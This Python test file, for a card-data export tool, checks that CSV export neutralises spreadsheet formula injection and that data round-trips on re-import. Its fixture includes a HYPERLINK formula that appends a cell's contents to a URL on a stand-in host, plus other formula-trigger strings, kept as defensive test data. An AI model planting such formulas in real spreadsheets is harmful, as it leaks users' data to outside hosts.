"""Attacks through spreadsheets: a CSV export that a spreadsheet would run as formulas, and books
built to exhaust the machine (rows, cells, unpacked bytes)."""
from __future__ import annotations

from sheets.helpers import loaded

from .helpers import invoke

# Texts a spreadsheet takes for a formula when they start a CSV cell (OWASP, «CSV Injection»), and
# texts that only look like the escape; «car» is a number, negative, and stays a number.
HOSTILE = """\
cartas:
  - id: brazo-x
    nombre: "+1 DEF"
    tipo: parte
    zona: brazo_derecho
    pg: 3
    car: -1
    fue: 2
    def: 1
    vel: 1
    rareza: chatarra
    ambientacion: '=HYPERLINK("http://ejemplo.com/?"&A1;"ver")'
  - id: brazo-y
    nombre: "@SUMA"
    tipo: parte
    zona: brazo_derecho
    pg: 3
    car: -2
    fue: 2
    def: 1
    vel: 1
    rareza: chatarra
    ambientacion: "'=no es una fórmula"
  - id: brazo-z
    nombre: "-1"
    tipo: parte
    zona: brazo_derecho
    pg: 3
    car: 1
    fue: 2
    def: 1
    vel: 1
    rareza: chatarra
    ambientacion: "'hola"
"""


def test_a_csv_export_never_starts_a_cell_with_a_formula_and_imports_back_unchanged(project):
    root = project({"cards/t/parte.yaml": HOSTILE})
    exported = invoke("exportar", "--cartas", "cards", "--formato", "csv", "--salida", "hojas")
    assert exported.exit_code == 0, exported.stderr
    rows = (root / "hojas" / "t.csv").read_text(encoding="utf-8-sig").splitlines()
    assert rows[1].startswith("apoyo-x,") and rows[2:] == [
        "brazo-x,'+1 DEF,parte,brazo_derecho,3,-1,2,1,1,chatarra,,,,\"'=HYPERLINK(\"\"http://ejemplo.com/?\"\"&A1;"
        "\"\"ver\"\")\",,,parte.yaml",
        "brazo-y,'@SUMA,parte,brazo_derecho,3,-2,2,1,1,chatarra,,,,''=no es una fórmula,,,parte.yaml",
        "brazo-z,'-1,parte,brazo_derecho,3,1,2,1,1,chatarra,,,,'hola,,,parte.yaml"]
    (root / "copia").mkdir()
    (root / "copia" / "ruleset.yaml").write_text("paquete: nismatch\n", encoding="utf-8")
    imported = invoke("importar", "hojas", "--cartas", "copia")
    assert imported.exit_code == 0, imported.stderr
    assert loaded(root / "copia") == loaded(root / "cards")
    again = invoke("importar", "hojas", "--cartas", "cards")
    assert (again.exit_code, again.stderr) == (0, "")
    assert "0 archivos escritos" in again.stdout
